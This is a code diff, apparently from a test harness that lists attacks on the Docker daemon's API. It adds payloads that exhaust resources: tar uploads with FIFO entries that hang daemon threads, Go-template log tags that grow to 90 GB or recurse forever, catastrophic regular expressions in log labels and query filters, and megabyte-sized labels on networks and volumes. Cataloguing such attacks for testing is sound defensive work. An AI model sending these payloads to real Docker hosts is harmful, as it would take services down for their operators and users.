@@ -170,6 +170,17 @@ def disk(name: str) -> bytes:
     return packed(name=name, type=tarfile.BLKTYPE, mode=0o666, devmajor=7, devminor=0)
 
 
+def upload(target: str, archive: bytes) -> Raw:
+    head = http(
+        "POST", target, "Connection: close", "Content-Type: application/x-tar", f"Content-Length: {len(archive)}"
+    )
+    return Raw(head + archive.decode("latin-1"))
+
+
+PIPED_BUILD = packed(name=".dockerignore", type=tarfile.FIFOTYPE)[:512] + tar(Dockerfile="FROM busybox\n")
+PIPED_IMAGE = packed(name="c.json", type=tarfile.FIFOTYPE)[:512] + image_archive("piped:1")[1024:]
+
+
 def steal(text: str) -> bytes:
     return tar(Dockerfile=text)
 
@@ -241,6 +252,12 @@ ROWS_LIMITS = [
     create("a systemd unit's properties by the cgroup", LIMITS, host(lambda config: config["CgroupParent"]), {"CgroupParent": "/x:y:z"}),
     create("reads of a device", LIMITS, host(lambda config: config["BlkioDeviceReadBps"]), {"BlkioDeviceReadBps": [{"Path": "/dev/null", "Rate": 1}]}),
     create("a log that waits in the daemon's memory", LIMITS, host(lambda config: "20g" in str(config["LogConfig"])), {"LogConfig": {"Type": "json-file", "Config": {"mode": "non-blocking", "max-buffer-size": "20g"}}}),
+    create("a log's tag as long as the machine has memory", LIMITS, host(lambda config: "pad" in str(config["LogConfig"])), {"LogConfig": {"Type": "json-file", "Config": {"tag": '{{pad "x" 90000000000 0}}'}}}),
+    create("a log's tag that is written for ever", LIMITS, host(lambda config: "define" in str(config["LogConfig"])), {"LogConfig": {"Config": {"tag": '{{define "a"}}{{range .ContainerEnv}}{{template "a" $}}{{end}}{{end}}'}}}),
+    create("a log's labels by an expression that takes the daemon long", LIMITS, host(lambda config: "1000" in str(config["LogConfig"])), {"LogConfig": {"Config": {"labels-regex": "x{1000}" * 9}}}),
+    *(ask(f"{kind} by expressions that the daemon compiles for each of them", LIMITS, lambda stage: stage.answers[0] == b"[]\n", Ask("GET", f"/{kind}/json?all=1&filters={expression}" if kind == "containers" else f"/{kind}?filters={expression}")) for kind, expression in (("containers", '{"name":["' + "x{1000}" * 9 + '"]}'), ("networks", '{"id":["' + "xy" * 9999 + '"]}'))),
+    # What is not answered keeps a thread of the daemon's for good, and it ends when it has 10,000.
+    *(Attack(f"a thread of the daemon's, by a pipe as {what}", LIMITS, [upload(target, members)], lambda stage: not stage.answers) for what, target, members in (("a build's ignore file", "/build", PIPED_BUILD), ("an image's configuration", "/images/load", PIPED_IMAGE))),
     ask("a network whose description fills everybody's lists", LIMITS, lambda stage: len(str(stage.inspect("/networks/evil"))) > 1 << 20, Ask("POST", "/networks/create", {"Name": "evil", "Labels": {"k": "x" * (1 << 20)}})),
     ask("the same with a volume", LIMITS, lambda stage: len(str(stage.inspect("/volumes/evil"))) > 1 << 20, Ask("POST", "/volumes/create", {"Name": "evil", "Labels": {"k": "x" * (1 << 20)}})),
     create("a container that the daemon waits for without end", LIMITS, made(lambda container: container["Config"].get("StopTimeout") == -1), {}, StopTimeout=-1),
